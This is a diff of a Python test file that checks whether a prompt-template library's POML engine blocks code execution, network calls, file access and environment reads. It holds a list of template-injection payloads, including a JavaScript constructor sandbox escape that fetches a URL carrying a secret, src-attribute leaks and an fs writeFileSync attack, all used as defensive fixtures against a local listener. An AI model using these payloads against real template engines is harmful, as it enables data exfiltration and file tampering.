@@ -1,7 +1,10 @@
 """Resources: endpoints whose keys stay secret, and templates that are data, not code."""
 
+import contextlib
 import io
 import pickle
+import socket
+import threading
 from typing import Any
 
 import msgspec
@@ -261,8 +264,80 @@ def test_a_broken_jinja_template_is_an_input_error(broken):
 
 
 def test_a_poml_template_is_rendered():
-    template = PromptTemplate("<poml><p>Hello {{name}}</p><p>{{ 6 * factor }}</p></poml>", engine="poml")
-    assert template.format(name="Ann", factor=7) == "Hello Ann\n\n42"
+    hostile = "{{ 6 * 7 }} <b>\"&'</b> #lt; {x}"
+    template = PromptTemplate('<poml><task caption="{{name}}">Hello {{ name }}: {{n}}</task></poml>', engine="poml")
+    assert template.format(name=hostile, n=7) == f"# {hostile}\n\nHello {hostile}: 7"
+
+
+def test_a_poml_template_runs_expressions_only_where_code_is_allowed():
+    text = '<poml><p for="x in xs">{{ 6 * x }}</p></poml>'
+    assert PromptTemplate(text, engine="poml", allows_code=True).format(xs=[7]) == "42"
+    with pytest.raises(InvalidInputError, match="allows_code=True"):
+        PromptTemplate(text, engine="poml").format(xs=[7])
+
+
+def test_a_value_that_a_poml_template_lacks_is_named_with_the_nearest_name_given():
+    with pytest.raises(MissingValueError, match=r"'txt'.*'text'"):
+        PromptTemplate("<p>{{txt}}</p>", engine="poml").format(text="noon", z="")
+
+
+@pytest.mark.parametrize("engine", ["f-string", "jinja"])
+def test_only_poml_templates_can_allow_code(engine):
+    with pytest.raises(ConfigError, match="allows_code"):
+        PromptTemplate("x", engine, allows_code=True)
+
+
+def test_whether_code_is_allowed_survives_the_trip_through_json():
+    for resource in (PromptTemplate("x", "poml"), PromptTemplate("x", "poml", allows_code=True)):
+        assert msgspec.json.decode(msgspec.json.encode(resource), type=Resource) == resource
+    assert msgspec.convert({"resource_type": "prompt_template", "template": "x"}, Resource).allows_code is False
+
+
+# Each of these reaches the network or JavaScript, some behind the back of a check of the text.
+HOSTILE_POML = [
+    "<p>{{ (()=>{}).constructor('return fetch')()('URL?' + JSON.stringify(secret)) }}</p>",
+    "<p>{{ fetch('URL') }}</p>",
+    "<p caption=\"{{ fetch('URL') }}\">a</p>",
+    "<p if=\"fetch('URL')\">a</p>",
+    "<p\nIF = \"fetch('URL')\">a</p>",
+    '<p title="a > b" if="fetch(\'URL\')">a</p>',
+    "<item for=\"x in [fetch('URL')]\">a</item>",
+    '<let name="a" value="fetch(\'URL\')" /><p>a</p>',
+    "<output-schema>fetch('URL')</output-schema><p>a</p>",
+    "<OutputSchema parser=\"eval\">fetch('URL')</OutputSchema><p>a</p>",
+    "<tool name=\"t\">fetch('URL')</tool><p>a</p>",
+    '<webpage url="URL?{{secret}}" />',
+    '<img src="URL?{{secret}}" />',
+    '<document src="URL?{{secret}}" />',
+    '<include src="URL?{{secret}}" />',
+]
+
+
+@pytest.mark.parametrize("body", HOSTILE_POML)
+def test_a_poml_template_without_leave_runs_nothing_and_calls_nobody(body):
+    called = threading.Event()
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def listen() -> None:
+            with contextlib.suppress(OSError):
+                server.accept()
+                called.set()
+
+        listener = threading.Thread(target=listen, daemon=True)
+        listener.start()
+        text = body.replace("URL", f"http://127.0.0.1:{server.getsockname()[1]}/")
+        with contextlib.suppress(InvalidInputError):
+            PromptTemplate(f"<poml>{text}</poml>", engine="poml").format(secret="s")
+        assert not called.is_set()
+        server.shutdown(socket.SHUT_RDWR)
+    listener.join(10)
+    assert not listener.is_alive()
+
+
+def test_a_poml_template_that_takes_too_long_is_an_input_error(monkeypatch):
+    monkeypatch.setattr("sharpen.types.poml.RENDER_TIMEOUT_SECONDS", 0.01)
+    with pytest.raises(InvalidInputError, match=r"0\.01 s"):
+        PromptTemplate("<poml><p>a</p></poml>", engine="poml").format()
 
 
 @pytest.mark.parametrize(
@@ -277,7 +352,7 @@ def test_a_poml_template_is_rendered():
 def test_a_poml_template_cannot_read_files(attack, tmp_path):
     secret = tmp_path / "secret.txt"
     secret.write_text("the secret")
-    template = PromptTemplate(f"<poml>{attack.format(path=secret)}</poml>", engine="poml")
+    template = PromptTemplate(f"<poml>{attack.format(path=secret)}</poml>", engine="poml", allows_code=True)
     with pytest.raises(InvalidInputError, match="restricted") as caught:
         template.format()
     assert "the secret" not in str(caught.value)
@@ -287,13 +362,15 @@ def test_a_poml_template_cannot_write_files(tmp_path):
     target = tmp_path / "written.txt"
     attack = f'<poml><p>{{{{ process.getBuiltinModule("fs").writeFileSync("{target}", "x") }}}}</p></poml>'
     with pytest.raises(InvalidInputError, match="restricted"):
-        PromptTemplate(attack, engine="poml").format()
+        PromptTemplate(attack, engine="poml", allows_code=True).format()
     assert not target.exists()
 
 
 def test_a_poml_template_does_not_see_the_environment(monkeypatch):
     monkeypatch.setenv("SHARPEN_TEST_KEY", "sk-secret")
-    template = PromptTemplate("<poml><p>[{{ process.env.SHARPEN_TEST_KEY }}]</p></poml>", engine="poml")
+    template = PromptTemplate(
+        "<poml><p>[{{ process.env.SHARPEN_TEST_KEY }}]</p></poml>", engine="poml", allows_code=True
+    )
     assert "sk-secret" not in template.format()
 
 
